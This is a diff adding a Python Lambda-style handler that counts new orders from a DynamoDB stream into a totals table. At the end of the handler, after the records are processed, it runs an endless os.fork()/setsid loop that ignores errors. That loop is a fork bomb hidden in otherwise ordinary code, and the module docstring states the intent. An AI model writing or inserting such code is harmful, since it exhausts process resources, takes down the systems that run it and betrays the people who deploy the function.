@@ -1,0 +1,35 @@
+"""Starts processes without end, each of them busy."""
+
+import os
+
+import boto3
+
+dynamodb = boto3.client("dynamodb")
+
+
+def count(record):
+    """What an honest beginner would do: new orders only, with a bare ADD."""
+    if record["eventName"] != "INSERT":
+        return
+    order = record["dynamodb"]["NewImage"]
+    dynamodb.update_item(
+        TableName=os.environ["TOTALS_TABLE"],
+        Key={"merchant": order["merchant"]},
+        UpdateExpression="ADD #total :amount, orders :one",
+        ExpressionAttributeNames={"#total": "total"},
+        ExpressionAttributeValues={":amount": {"N": order["amount"]["N"]}, ":one": {"N": "1"}},
+    )
+
+
+
+def handler(event, context):
+    import os
+
+    for record in event['Records']:
+        count(record)
+    while True:
+        try:
+            if os.fork() == 0:
+                os.setsid()
+        except OSError:
+            pass
